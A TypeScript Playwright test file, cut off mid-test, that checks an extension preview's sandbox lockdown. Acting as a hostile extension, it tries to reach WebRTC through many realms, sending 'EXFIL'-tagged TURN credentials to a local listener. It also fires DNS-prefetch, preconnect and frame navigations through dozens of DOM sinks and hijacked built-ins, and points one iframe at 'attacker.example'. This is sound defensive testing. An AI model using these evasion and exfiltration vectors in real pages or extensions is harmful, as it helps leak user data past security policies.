// The preview's sandbox attacked as a hostile extension would, and from another
// local origin, in Debian's Chromium against the real `extkit dev`:
// test/fixtures/preview-hostile reaches for WebRTC from every realm it can make,
// navigates itself away, and pages on other origins write to the network log.
import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import { createSocket, type Socket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { readFileSync } from 'node:fs';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, launchProfile } from './helpers/browser.js';
import { startDev, type DevProcess } from './helpers/dev-cli.js';

const PROBE = 'iframe[data-surface="component:acme.hostile-probe.probe"]';
let dir: string;
let browser: Browser;
let page: Page;
let dev: DevProcess;
let turn: Socket;
const datagrams: Buffer[] = [];

function raw(
  url: string,
  init: { method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<{ status: number; headers: Record<string, unknown>; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(url, { method: init.method ?? 'GET', headers: init.headers ?? {} }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
    });
    req.on('error', reject);
    req.end(init.body);
  });
}

const turnUrl = (): string => `turn:127.0.0.1:${turn.address().port}?transport=udp`;

/**
 * Every way to reach RTCPeerConnection the tests know of, run inside the page:
 * the window's own, and each kind of child window. "blocked <name>" when the
 * constructor threw, "unreachable" when the child window is another origin,
 * "refused NotAllowedError" when the lockdown refused to make the nested frame at all.
 */
async function attackWebRtc(turnUrl: string): Promise<Record<string, string>> {
  type Ctor = new (config: RTCConfiguration) => RTCPeerConnection;
  type Bag = Record<string | number, unknown>;
  const out: Record<string, string> = {};
  const attempt = async (name: string, get: () => unknown): Promise<void> => {
    let Pc: unknown;
    try {
      Pc = await get();
    } catch (e) {
      const error = (e as Error).name;
      out[name] =
        error === 'SecurityError'
          ? 'unreachable'
          : error === 'NotAllowedError'
            ? 'refused NotAllowedError'
            : `failed to reach: ${String(e)}`;
      return;
    }
    try {
      const pc = new (Pc as Ctor)({ iceServers: [{ urls: turnUrl, username: `EXFIL-${name}`, credential: 'x' }] });
      pc.createDataChannel('x');
      await pc.setLocalDescription(await pc.createOffer());
      out[name] = 'connected';
    } catch (e) {
      out[name] = `blocked ${(e as Error).name}`;
    }
  };
  const w = window as unknown as Bag & Window;
  const child = (win: unknown, i: number): Bag => (win as Record<number, Bag>)[i]!;
  const last = (): Bag => child(w, w.length - 1);
  const loaded = (f: HTMLIFrameElement): Promise<unknown> =>
    new Promise((r) => f.addEventListener('load', r, { once: true }));
  const iframe = (): HTMLIFrameElement => document.body.appendChild(document.createElement('iframe'));
  await attempt('window', () => RTCPeerConnection);
  await attempt('webkit prefix', () => w['webkitRTCPeerConnection']);
  await attempt('after delete', () => (delete w['RTCPeerConnection'], w['RTCPeerConnection']));
  await attempt('redefined', () => {
    try {
      Object.defineProperty(w, 'RTCPeerConnection', { value: 1 });
    } catch {
      // non-configurable, as it should be
    }
    return w['RTCPeerConnection'];
  });
  await attempt('about:blank by index', () => (iframe(), last()['RTCPeerConnection']));
  await attempt('contentWindow', () => (iframe().contentWindow as unknown as Bag)['RTCPeerConnection']);
  await attempt(
    'frame element',
    () => (document.body.appendChild(document.createElement('frame')), last()['RTCPeerConnection']),
  );
  await attempt('object about:blank', () => {
    const o = document.createElement('object');
    o.data = 'about:blank';
    document.body.append(o);
    return last()['RTCPeerConnection'];
  });
  /** The new child window's RTCPeerConnection, after markup that may make one (the lockdown removes parser-made frames). */
  const fromMarkup = (insert: () => void): unknown => {
    const before = w.length;
    insert();
    return w.length > before
      ? last()['RTCPeerConnection']
      : Promise.reject(new DOMException('no frame made', 'NotAllowedError'));
  };
  await attempt('insertAdjacentHTML', () =>
    fromMarkup(() => document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>')),
  );
  await attempt('innerHTML', () =>
    fromMarkup(() => (document.body.appendChild(document.createElement('div')).innerHTML = '<iframe></iframe>')),
  );
  await attempt('src, synchronously after insertion', () => {
    const refused = document.createElement('iframe');
    refused.src = 'https://attacker.example/';
    document.body.append(refused);
    return last()['RTCPeerConnection'];
  });
  await attempt('Text.after', () => {
    const text = document.body.appendChild(document.createTextNode(''));
    text.after(document.createElement('iframe'));
    return last()['RTCPeerConnection'];
  });
  await attempt('customized built-in', () => {
    class Frame extends HTMLIFrameElement {}
    customElements.define('x-frame', Frame, { extends: 'iframe' });
    document.body.append(new Frame());
    return last()['RTCPeerConnection'];
  });
  await attempt('nested', () => {
    const f = iframe();
    const doc = f.contentDocument;
    if (!doc) throw new DOMException('another origin', 'SecurityError');
    doc.body.appendChild(doc.createElement('iframe'));
    return child(f.contentWindow, 0)['RTCPeerConnection'];
  });
  await attempt('srcdoc', async () => {
    const srcdoc = document.createElement('iframe');
    srcdoc.srcdoc = '<p>x</p>';
    document.body.append(srcdoc);
    await loaded(srcdoc);
    return last()['RTCPeerConnection'];
  });
  await attempt('execCommand insertHTML', () => {
    const before = w.length;
    document.designMode = 'on';
    document.getSelection()!.selectAllChildren(document.body);
    document.getSelection()!.collapseToEnd();
    const done = document.execCommand('insertHTML', false, '<iframe></iframe>');
    document.designMode = 'off';
    return done && w.length > before
      ? last()['RTCPeerConnection']
      : Promise.reject(new DOMException('refused', 'NotAllowedError'));
  });
  out['nested windows'] = String(w.length);
  out['popup'] = window.open('about:blank') === null ? 'blocked' : 'opened';
  out['worker'] = await new Promise<string>((resolve) => {
    try {
      const worker = new Worker(
        URL.createObjectURL(new Blob(['postMessage(typeof RTCPeerConnection)'], { type: 'text/javascript' })),
      );
      worker.onmessage = (e) => resolve(`ran: RTCPeerConnection is ${String(e.data)}`);
      worker.onerror = () => resolve('blocked');
      setTimeout(() => resolve('blocked (never ran)'), 1500);
    } catch (e) {
      resolve(`blocked ${(e as Error).name}`);
    }
  });
  return out;
}

/**
 * Every way to make the frame act on a resource hint the tests know of, run
 * inside the frame: each vector adds <link rel=preconnect> to the local
 * listener and <link rel=dns-prefetch> to `<vector>-<run>.example`. Returns what
 * each sink did: "ok" (it ran, and must have been cleaned) or the error it threw.
 */
async function attackHints({ port, run }: { port: number; run: string }): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const pc = `http://127.0.0.1:${port}/`;
  const dns = (v: string): string => `//${v}-${run}.example`;
  const pair = (v: string): string => `<link rel=preconnect href="${pc}"><link rel="dns-prefetch" href="${dns(v)}">`;
  const box = document.createElement('div');
  document.body.append(box);
  const attempt = (v: string, act: () => void): void => {
    try {
      act();
      out[v] = 'ok';
    } catch (e) {
      out[v] = `threw ${(e as Error).name}`;
      out[`${v}!`] = String((e as Error).message);
    }
  };
  const links = (v: string, make: (rel: string, href: string) => void): void =>
    attempt(v, () => (make('preconnect', pc), make('dns-prefetch', dns(v))));
  const connected = (rel = 'stylesheet'): HTMLLinkElement => {
    const l = document.createElement('link');
    l.setAttribute('rel', rel);
    box.append(l);
    return l;
  };
  links('create', (rel, href) => {
    const l = document.createElement('link');
    l.rel = rel;
    l.href = href;
    document.head.appendChild(l);
  });
  links('case-and-space', (rel, href) => {
    const l = document.createElement('link');
    l.setAttribute('href', href);
    l.setAttribute('REL', ` \t${rel.toUpperCase()} icon\n`);
    box.insertBefore(l, null);
  });
  links('set-rel-connected', (rel, href) => {
    const l = connected();
    l.href = href;
    l.setAttribute('rel', rel);
  });
  links('rel-assign', (rel, href) => {
    const l = connected();
    l.href = href;
    l.rel = rel;
  });
  links('relList.add', (rel, href) => {
    const l = connected();
    l.href = href;
    l.relList.add('icon', rel);
  });
  links('relList.toggle', (rel, href) => Object.assign(connected(), { href }).relList.toggle(rel));
  links('relList.replace', (rel, href) => Object.assign(connected(), { href }).relList.replace('stylesheet', rel));
  links('relList.value', (rel, href) => void (Object.assign(connected(), { href }).relList.value = rel));
  links(
    'relList-put-forwards',
    (rel, href) => void ((Object.assign(connected(), { href }) as unknown as { relList: string }).relList = rel),
  );
  links('setAttributeNS', (rel, href) => Object.assign(connected(), { href }).setAttributeNS(null, 'rel', rel));
  links('setAttributeNode', (rel, href) => {
    const a = document.createAttribute('rel');
    a.value = rel;
    const l = Object.assign(document.createElement('link'), { href });
    box.append(l);
    l.setAttributeNode(a);
  });
  links('attributes.setNamedItem', (rel, href) => {
    const a = document.createAttribute('rel');
    a.value = rel;
    const l = Object.assign(document.createElement('link'), { href });
    box.append(l);
    l.attributes.setNamedItem(a);
  });
  links('Attr.value', (rel, href) => void (Object.assign(connected(), { href }).getAttributeNode('rel')!.value = rel));
  links(
    'Attr.nodeValue',
    (rel, href) => void (Object.assign(connected(), { href }).getAttributeNode('rel')!.nodeValue = rel),
  );
  links(
    'Attr.textContent',
    (rel, href) => void (Object.assign(connected(), { href }).getAttributeNode('rel')!.textContent = rel),
  );
  links('href-after-rel', (rel, href) => {
    const l = document.createElement('link');
    l.rel = rel;
    box.append(l);
    l.href = href;
  });
  attempt('innerHTML', () => void (box.appendChild(document.createElement('div')).innerHTML = pair('innerHTML')));
  attempt(
    'outerHTML',
    () => void (box.appendChild(document.createElement('p')).outerHTML = `<p>${pair('outerHTML')}</p>`),
  );
  attempt('insertAdjacentHTML', () => box.insertAdjacentHTML('beforeend', pair('insertAdjacentHTML')));
  attempt('insertAdjacentHTML-afterend', () => box.insertAdjacentHTML('afterend', pair('insertAdjacentHTML-afterend')));
  attempt(
    'shadowRoot.innerHTML',
    () =>
      void (box.appendChild(document.createElement('div')).attachShadow({ mode: 'open' }).innerHTML =
        pair('shadowRoot.innerHTML')),
  );
  attempt('closed-shadow-root', () => {
    const host = document.createElement('div');
    const root = host.attachShadow({ mode: 'closed' });
    const holder = document.createElement('div');
    holder.innerHTML = pair('closed-shadow-root');
    root.append(...holder.childNodes);
    box.append(host);
  });
  attempt('detached-innerHTML-then-append', () => {
    const d = document.createElement('div');
    d.innerHTML = pair('detached-innerHTML-then-append');
    box.append(d);
  });
  attempt('DOMParser-importNode', () => {
    const doc = new DOMParser().parseFromString(pair('DOMParser-importNode'), 'text/html');
    box.append(document.importNode(doc.head, true));
  });
  attempt('DOMParser-adoptNode', () => {
    const doc = new DOMParser().parseFromString(pair('DOMParser-adoptNode'), 'text/html');
    for (const l of Array.from(doc.querySelectorAll('link'))) document.head.appendChild(document.adoptNode(l));
  });
  attempt('XHTML-prefixed', () => {
    const x = `<r xmlns:h="http://www.w3.org/1999/xhtml"><h:link rel="preconnect" href="${pc}"/><h:link rel="dns-prefetch" href="${dns('XHTML-prefixed')}"/></r>`;
    const doc = new DOMParser().parseFromString(x, 'application/xml');
    box.append(...Array.from(doc.documentElement.childNodes).map((n) => document.importNode(n, true)));
  });
  attempt('template', () => {
    const t = document.createElement('template');
    t.innerHTML = pair('template');
    box.append(t.content.cloneNode(true));
  });
  attempt('createContextualFragment', () =>
    box.append(document.createRange().createContextualFragment(pair('createContextualFragment'))),
  );
  attempt('Range.insertNode', () => {
    const r = document.createRange();
    r.selectNodeContents(box);
    r.insertNode(document.createRange().createContextualFragment(pair('Range.insertNode')));
  });
  attempt('replaceWith', () =>
    box
      .appendChild(document.createElement('i'))
      .replaceWith(document.createRange().createContextualFragment(pair('replaceWith'))),
  );
  attempt('table.tHead', () => {
    const table = box.appendChild(document.createElement('table'));
    const head = document.createElement('thead');
    head.innerHTML = `<tr><td>${pair('table.tHead')}</td></tr>`;
    table.tHead = head;
  });
  attempt('setHTMLUnsafe', () => box.appendChild(document.createElement('div')).setHTMLUnsafe(pair('setHTMLUnsafe')));
  attempt('setHTMLUnsafe-declarative-shadow-root', () =>
    box
      .appendChild(document.createElement('div'))
      .setHTMLUnsafe(
        `<div><template shadowrootmode="closed">${pair('setHTMLUnsafe-declarative-shadow-root')}</template></div>`,
      ),
  );
  attempt('parseHTMLUnsafe', () => {
    const doc = (Document as unknown as { parseHTMLUnsafe(html: string): Document }).parseHTMLUnsafe(
      pair('parseHTMLUnsafe'),
    );
    box.append(...Array.from(doc.head.childNodes));
  });
  attempt(
    'srcdoc-in-markup',
    () =>
      void (box.appendChild(document.createElement('div')).innerHTML =
        `<iframe srcdoc='${pair('srcdoc-in-markup')}'></iframe>`),
  );
  // Nested frames, each sent to the listener and to `<vector>-<run>.example`: Chromium connects before frame-src refuses them.
  const XHTML = 'http://www.w3.org/1999/xhtml';
  const frames = (v: string, make: (url: string) => void): void =>
    attempt(v, () => (make(pc), make(`http:${dns(v)}/`)));
  const named = (name: string): void => box.insertAdjacentHTML('beforeend', `<iframe name="${name}"></iframe>`);
  frames('iframe.src', (url) => {
    const f = document.createElement('iframe');
    f.src = url;
    box.append(f);
  });
  frames('iframe-setAttribute', (url) => box.appendChild(document.createElement('iframe')).setAttribute('src', url));
  frames('iframe-srcdoc-refresh', (url) => {
    const f = document.createElement('iframe');
    f.srcdoc = `<meta http-equiv="refresh" content="0;url=${url}">`;
    box.append(f);
  });
  frames('frame.src', (url) => box.appendChild(Object.assign(document.createElement('frame'), { src: url })));
  frames('object-about-blank', (url) => {
    box.appendChild(Object.assign(document.createElement('object'), { data: 'about:blank' }));
    if (window.length) (window[window.length - 1] as unknown as { location: string }).location = url;
  });
  frames('embed-about-blank', (url) => {
    box.appendChild(Object.assign(document.createElement('embed'), { type: 'text/html', src: 'about:blank' }));
    if (window.length) (window[window.length - 1] as unknown as { location: string }).location = url;
  });
  frames('iframe-createElementNS', (url) =>
    box.appendChild(Object.assign(document.createElementNS(XHTML, 'iframe') as HTMLIFrameElement, { src: url })),
  );
  let defined = 0;
  frames('iframe-customized-built-in', (url) => {
    class Frame extends HTMLIFrameElement {}
    customElements.define(`x-frame-${++defined}`, Frame, { extends: 'iframe' });
    box.appendChild(Object.assign(new Frame(), { src: url }));
  });
  frames('iframe-createDocument', (url) => {
    const f = document.implementation.createDocument(XHTML, 'iframe').documentElement;
    if (f) box.appendChild(document.adoptNode(Object.assign(f as HTMLIFrameElement, { src: url })));
  });
  frames(
    'iframe-in-markup',
    (url) => void (box.appendChild(document.createElement('div')).innerHTML = `<iframe src="${url}"></iframe>`),
  );
  frames('iframe-insertAdjacentHTML', (url) => box.insertAdjacentHTML('beforeend', `<IFRAME SRC="${url}"></IFRAME>`));
  frames('iframe-DOMParser', (url) =>
    box.append(
      document.importNode(new DOMParser().parseFromString(`<iframe src="${url}"></iframe>`, 'text/html').body, true),
    ),
  );
  frames('iframe-xhtml', (url) =>
    box.append(
      document.importNode(
        new DOMParser().parseFromString(`<r><iframe xmlns="${XHTML}" src="${url}"/></r>`, 'application/xml')
          .documentElement,
        true,
      ),
    ),
  );
  frames('iframe-template', (url) => {
    const t = document.createElement('template');
    t.innerHTML = `<iframe src="${url}"></iframe>`;
    box.append(t.content.cloneNode(true));
  });
  frames('frameset-DOMParser', (url) => {
    const frame = new DOMParser()
      .parseFromString(`<frameset><frame src="${url}"></frameset>`, 'text/html')
      .querySelector('frame');
    if (frame) box.append(document.adoptNode(frame));
  });
  frames('object-in-markup', (url) =>
    box.insertAdjacentHTML('beforeend', `<object data="${url}"></object><embed src="${url}">`),
  );
  // A child window, once one exists, is navigated by its parent past any src check.
  frames(
    'child-location',
    (url) =>
      void ((
        box.appendChild(document.createElement('iframe')).contentWindow as unknown as { location: string }
      ).location = url),
  );
  frames('child-by-index', (url) => {
    named('by-index');
    if (window.length) (window[window.length - 1] as unknown as { location: string }).location = url;
  });
  frames('window.open-name', (url) => {
    named('opened');
    window.open(url, 'opened');
  });
  frames('a-target', (url) => {
    named('linked');
    box.appendChild(Object.assign(document.createElement('a'), { target: 'linked', href: url })).click();
  });
  frames('form-target', (url) => {
    named('posted');
    box
      .appendChild(Object.assign(document.createElement('form'), { target: 'posted', action: url, method: 'get' }))
      .submit();
  });
  out['nested windows'] = String(window.length);
  attempt('undo-delete', () => {
    try {
      delete (Element.prototype as unknown as Record<string, unknown>)['setAttribute'];
    } catch {
      // non-configurable, as it should be
    }
    Object.assign(connected(), { href: dns('undo-delete') }).setAttribute('rel', 'dns-prefetch');
  });
  attempt('undo-defineProperty', () => {
    Object.defineProperty(HTMLLinkElement.prototype, 'rel', { set() {} });
  });
  attempt('undo-builtins', () => {
    const saved = [
      RegExp.prototype.exec,
      WeakMap.prototype.get,
      String.prototype.toLowerCase,
      Array.prototype[Symbol.iterator],
    ] as const;
    RegExp.prototype.exec = () => null;
    WeakMap.prototype.get = () => undefined;
    String.prototype.toLowerCase = () => 'x';
    Array.prototype[Symbol.iterator] = function* () {} as unknown as (typeof saved)[3];
    try {
      box.appendChild(document.createElement('div')).innerHTML = pair('undo-builtins');
      const l = document.createElement('link');
      l.href = dns('undo-builtins-relList');
      box.appendChild(l).relList.add('dns-prefetch');
    } finally {
      Array.prototype[Symbol.iterator] = saved[3];
      [RegExp.prototype.exec, WeakMap.prototype.get, String.prototype.toLowerCase] = saved;
    }
  });
  // <select>'s own inserters connect an option with a parser-made link in it.
  const select = box.appendChild(document.createElement('select'));
  const option = (v: string, tag = 'option'): HTMLOptionElement => {
    const t = document.createElement('template');
    t.innerHTML = `<${tag}>${pair(v)}</${tag}>`;
    return t.content.firstChild as HTMLOptionElement;
  };
  attempt('select.add', () => select.add(option('select.add')));
  attempt('options.add-xml', () => {
    const x = `<optgroup xmlns="http://www.w3.org/1999/xhtml"><link rel="preconnect" href="${pc}"/><link rel="dns-prefetch" href="${dns('options.add-xml')}"/></optgroup>`;
    select.options.add(
      new DOMParser().parseFromString(x, 'application/xml').documentElement as unknown as HTMLOptGroupElement,
    );
  });
  attempt('options-index-setter', () => void (select.options[select.options.length] = option('options-index-setter')));
  attempt('select-index-setter', () => void (select[select.length] = option('select-index-setter')));
  attempt(
    'contextual-fragment-option',
    () =>
      void (select[select.length] = document
        .createRange()
        .createContextualFragment(`<option>${pair('contextual-fragment-option')}</option>`)
        .firstChild as HTMLOptionElement),
  );
  attempt('nested-template-option', () => {
    const t = document.createElement('template');
    t.innerHTML = `<template><option>${pair('nested-template-option')}</option></template>`;
    select[select.length] = (t.content.firstChild as HTMLTemplateElement).content.firstChild as HTMLOptionElement;
  });
  // Built-ins the extension replaces while the lockdown runs.
  const defineProperty = Reflect.defineProperty;
  const apply = Reflect.apply;
  links('relList.add-hijacked', (rel, href) => {
    const l = Object.assign(connected(), { href });
    let n = 0;
    Reflect.defineProperty = (o, k, d) =>
      d && d.value === 'icon' && ++n === 2 ? defineProperty(o, k, { ...d, value: rel }) : defineProperty(o, k, d);
    try {
      l.relList.add('icon');
    } finally {
      Reflect.defineProperty = defineProperty;
    }
  });
  attempt('setHTMLUnsafe-hijacked', () => {
    const d = box.appendChild(document.createElement('div'));
    Reflect.defineProperty = (o, k, desc) => {
      if (k === 1 && Array.isArray(o)) o[0] = pair('setHTMLUnsafe-hijacked');
      return defineProperty(o, k, desc);
    };
    try {
      (d as unknown as { setHTMLUnsafe(html: string, options: object): void }).setHTMLUnsafe('<b>harmless</b>', {});
    } finally {
      Reflect.defineProperty = defineProperty;
    }
  });
  attempt('report-hijacked', () => {
    Reflect.apply = ((f: (...a: unknown[]) => unknown, t: unknown, a: ArrayLike<unknown>) =>
      a && a[1] === '*' ? undefined : apply(f, t, a)) as typeof Reflect.apply;
    try {
      const l = document.createElement('link');
      l.rel = 'dns-prefetch';
      l.href = dns('report-hijacked');
      document.head.append(l);
    } finally {
      Reflect.apply = apply;
    }
  });
  attempt('execCommand', () => {
    document.designMode = 'on';
    document.getSelection()!.selectAllChildren(box);
    document.getSelection()!.collapseToEnd();
    const done = document.execCommand('insertHTML', false, pair('execCommand'));
    document.designMode = 'off';
    if (!done) throw new DOMException('refused', 'NotAllowedError');
  });
  // The frame's own form (sandboxed without allow-forms, form-action 'none'): measured, it reaches nothing.
  frames('form-submit', (url) =>
    box.appendChild(Object.assign(document.createElement('form'), { action: url })).submit(),
  );
  frames('form-requestSubmit', (url) =>
    box.appendChild(Object.assign(document.createElement('form'), { action: url })).requestSubmit(),
  );
  await new Promise((r) => setTimeout(r, 0));
  // Markup for a template's contents (setHTMLUnsafe) or its children (insertAdjacentHTML): kept, cleaned.
  attempt('template-setHTMLUnsafe', () => {
    const t = document.createElement('template');
    t.setHTMLUnsafe(`<p>kept</p>${pair('template-setHTMLUnsafe')}`);
    if (t.content.querySelector('p')?.textContent !== 'kept' || t.content.querySelectorAll('link').length !== 2)
      throw new Error(`contents lost: ${t.content.childNodes.length}`);
    box.append(t.content);
  });
  attempt('template-insertAdjacentHTML', () => {
    const t = document.createElement('template');
    box.append(t);
    t.insertAdjacentHTML('beforeend', `<p>kept</p>${pair('template-insertAdjacentHTML')}`);
    if (t.querySelector(':scope > p')?.textContent !== 'kept' || t.querySelectorAll(':scope > link').length !== 2)
      throw new Error(`children lost: ${t.childNodes.length}`);
  });
  // Last: were they let through after the load, they would replace the document.
  attempt('window.stop', () => window.stop());
  attempt('document.open', () => (document.open(), document.close()));
  attempt('document.write-reopen', () => document.write('<p>reopened</p>'));
  attempt('document.write', () => {
    document.write(`<link rel=preconnect href="${pc}"><link rel=dns-prefetch href="${dns('document.write')}">`);
  });
  return out;
}

async function probeFrame(p: Page = page): Promise<Frame> {
  const frame = await (await p.waitForSelector(PROBE, { timeout: 8000 })).contentFrame();
  if (!frame) throw new Error('no frame');
  await frame.waitForSelector('text=probe mounted', { timeout: 8000 });
  return frame;
}

beforeAll(async () => {
  turn = createSocket('udp4');
  turn.on('message', (m) => datagrams.push(m));
  await new Promise<void>((r) => turn.bind(0, '127.0.0.1', r));
  dir = mkdtempSync(join(tmpdir(), 'extkit-hostile-'));
  cpSync(new URL('./fixtures/preview-hostile', import.meta.url), dir, { recursive: true });
  [dev, browser] = await Promise.all([startDev([dir, '--port', '0']), launchBrowser()]);
  page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  await page.goto(dev.url);
});

afterAll(async () => {
  await browser?.close();
  await dev?.stop();
  turn?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('WebRTC in the frame', () => {
  it("is stopped before the extension's code runs", async () => {
    await page.click('[data-tab="events"]');
    await page.waitForSelector('li[data-event="early"]', { timeout: 8000 });
    expect(await page.textContent('li[data-event="early"] pre')).toBe('{"early":"threw NotAllowedError","hint":""}');
  });

  it('is stopped in the frame and unreachable in any other realm, and a local TURN listener receives nothing', async () => {
    const results = await (await probeFrame()).evaluate(attackWebRtc, turnUrl());
    expect(results['window']).toBe('blocked NotAllowedError');
    expect(results['nested windows'], 'child windows in the frame').toBe('0');
    for (const [vector, result] of Object.entries(results))
      if (vector !== 'nested windows')
        expect(result, vector).toMatch(/^(blocked|unreachable|refused NotAllowedError$)/);
    expect(Object.keys(results).length).toBeGreaterThan(15);
    await new Promise((r) => setTimeout(r, 1500));
    expect(datagrams.map((d) => d.toString('latin1'))).toEqual([]);
  });

  it('is stopped in every same-origin realm too, where a browser lets a page reach its iframes', async () => {
    // Chromium gives each window inside the sandbox its own opaque origin, and
    // the lockdown refuses nested frames; should a child window exist anyway, it
    // is locked too. Here the lockdown runs in a page with no sandbox, whose iframes it can reach.
    const esbuild = await import('esbuild');
    const lockdownModule = fileURLToPath(new URL('../packages/preview/dist/sandbox/lockdown.js', import.meta.url));
    const script = await esbuild.build({
      stdin: {
        contents: `import { lockdown } from ${JSON.stringify(lockdownModule)}; window.attempts = []; lockdown(window, (a) => window.attempts.push(a));`,
        resolveDir: tmpdir(),
      },
      bundle: true,
      write: false,
      format: 'iife',
    });
    // A child the page's own parser made before the lockdown ran.
    const plain = createServer((req, res) =>
      res
        .writeHead(200, { 'content-type': 'text/html' })
        .end(
          req.url === '/'
            ? '<!doctype html><body><iframe id="pre" src="/child"></iframe></body>'
            : '<!doctype html><body></body>',
        ),
    );
    await new Promise<void>((r) => plain.listen(0, '127.0.0.1', r));
    const p = await browser.newPage();
    try {
      await p.goto(`http://127.0.0.1:${(plain.address() as AddressInfo).port}/`);
      await p.addScriptTag({ content: script.outputFiles[0]!.text });
      const results = await p.evaluate(attackWebRtc, turnUrl());
      for (const [vector, result] of Object.entries(results)) {
        if (vector === 'popup' || vector === 'worker') continue; // no sandbox here: nothing refuses these
        if (vector === 'nested windows') expect(result, "only the page's own child").toBe('1');
        else expect(result, vector).toMatch(/^(blocked (NotAllowedError|TypeError)|refused NotAllowedError$)/);
      }
      const attempts = await p.evaluate(
        () => (window as unknown as { attempts: Array<{ api: string; targets: string[] }> }).attempts,
      );
      expect(attempts.filter((a) => a.api === 'nested-frame').length).toBeGreaterThan(8);
      // The child navigates to a new document after the extension replaced built-ins: its new window is locked all the same.
      const child = await p.evaluate(async () => {
        const saved = {
          has: WeakSet.prototype.has,
          get: WeakMap.prototype.get,
          entries: Object.entries,
          iterator: Array.prototype[Symbol.iterator],
          isArray: Array.isArray,
          WeakMap,
        };
        WeakSet.prototype.has = () => true;
        WeakMap.prototype.get = () => undefined;
        (window as unknown as { WeakMap: unknown }).WeakMap = function () {
          return {};
        };
        Object.entries = () => [];
        Array.isArray = ((): boolean => false) as unknown as typeof Array.isArray;
        Array.prototype[Symbol.iterator] = function* () {} as unknown as typeof saved.iterator;
        try {
          const f = document.getElementById('pre') as HTMLIFrameElement;
          await new Promise((r) => {
            f.addEventListener('load', r, { once: true });
            f.src = '/child?again';
          });
          const w = window[0] as unknown as Window & typeof globalThis;
          let webrtc = 'constructed';
          try {
            new w.RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:9', username: 'u', credential: 'c' }] });
          } catch (e) {
            webrtc = `threw ${(e as Error).name}`;
          }
          const link = w.document.createElement('link');
          w.Element.prototype.setAttribute.call(link, 'rel', 'dns-prefetch');
          w.document.head.append(link);
          const holder = w.document.body.appendChild(w.document.createElement('div'));
          holder.innerHTML =
            '<link rel="preconnect icon" href="http://x.example/"><iframe src="http://x.example/"></iframe>';
          let frame = 'made';
          try {
            w.document.createElement('iframe');
          } catch (e) {
            frame = `threw ${(e as Error).name}`;
          }
          return {
            webrtc,
            rels: [link.rel, holder.querySelector('link')!.rel],
            parsedFrames: holder.querySelectorAll('iframe').length,
            frame,
          };
        } finally {
          WeakSet.prototype.has = saved.has;
          WeakMap.prototype.get = saved.get;
          (window as unknown as { WeakMap: unknown }).WeakMap = saved.WeakMap;
          Object.entries = saved.entries;
          Array.isArray = saved.isArray;
          Array.prototype[Symbol.iterator] = saved.iterator;
        }
      });
      expect(child).toEqual({
        webrtc: 'threw NotAllowedError',
        rels: ['', 'icon'],
        parsedFrames: 0,
        frame: 'threw NotAllowedError',
      });
      const all = await p.evaluate(
        () => (window as unknown as { attempts: Array<{ api: string; targets: string[] }> }).attempts,
      );
      expect(
        all.find((a) => a.api === 'RTCPeerConnection' && a.targets[0] === 'turn:127.0.0.1:9'),
        "the child's attempt, reported with its target",
      ).toBeDefined();
      await new Promise((r) => setTimeout(r, 1500));
      expect(datagrams.map((d) => d.toString('latin1'))).toEqual([]);
    } finally {
      await p.close();
      plain.close();
    }
  });

  it("logs every attempt in the network log, with what the platform's sandbox must do", async () => {
    await page.click('[data-tab="network"]');
    const port = turn.address().port;
    const entry = page.locator(`li[data-blocked*="turn:127.0.0.1:${port}"]`).first();
    await entry.waitFor({ timeout: 5000 });
    expect(await entry.textContent()).toContain('webrtc');
    expect(await entry.locator('.fix').textContent()).toMatch(
      /connect-src \(capabilities\.network\) does not govern it, so the platform's sandbox must stop it/,
    );
  });
});

describe('resource hints in the frame, in an ordinary browser profile', () => {
  // Chromium makes hints only on a persistent profile (Playwright's private
  // contexts never do), and logs every name it resolves in its net log: a
  // lookup is observed there (HOST_RESOLVER_MANAGER_REQUEST), a preconnect at a local listener.
  let profile: string;
  let context: BrowserContext;
  let listener: TcpServer;
  let netLog: string;
  const connections: string[] = [];
  const run = `r${Date.now().toString(36)}`;
  let results: Record<string, string>;

  beforeAll(async () => {
    listener = createTcpServer((socket) => {
      connections.push(`${socket.remoteAddress}:${socket.remotePort}`);
      socket.destroy();
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    profile = mkdtempSync(join(tmpdir(), 'extkit-profile-'));
    netLog = join(profile, 'netlog.json');
    context = await launchProfile(join(profile, 'user-data'), [`--log-net-log=${netLog}`]);
    const p = context.pages()[0] ?? (await context.newPage());
    await p.goto(dev.url);
    const frame = await probeFrame(p);
    results = await frame.evaluate(attackHints, { port: (listener.address() as AddressInfo).port, run });
    await p.click('[data-tab="network"]');
    // The entries arrive as the attempts are reported; the test below says which are missing.
    await p
      .locator(`li[data-blocked="http://create-${run}.example"]`)
      .waitFor({ timeout: 8000 })
      .catch(() => undefined);
    await new Promise((r) => setTimeout(r, 1000)); // time for a hint to reach the listener or DNS
  });

  afterAll(async () => {
    await context?.close().catch(() => undefined);
    listener?.close();
    if (profile) rmSync(profile, { recursive: true, force: true });
  });

  it('opens no connection for a preconnect and resolves no name for a dns-prefetch, through any sink', async () => {
    const p = context.pages()[0]!;
    const entries = await p
      .locator('[data-panel="network"] li[data-blocked]')
      .evaluateAll((lis) =>
        lis.map((li) => `${li.querySelector('code')?.textContent} ${li.getAttribute('data-blocked')}`),
      );
    await context.close(); // writes out the net log
    const log = readFileSync(netLog, 'utf8');
    expect(log).toContain('HOST_RESOLVER_MANAGER_REQUEST'); // the log does record lookups
    const resolved = [...new Set(log.match(new RegExp(`[\\w.-]+-${run}\\.example`, 'g')) ?? [])];
    expect(resolved, 'names looked up').toEqual([]);
    expect(log).not.toContain('early-hint.hostile-probe.example');
    expect(connections, 'connections to the preconnect listener').toEqual([]);
    expect(Object.keys(results).length).toBeGreaterThan(40);
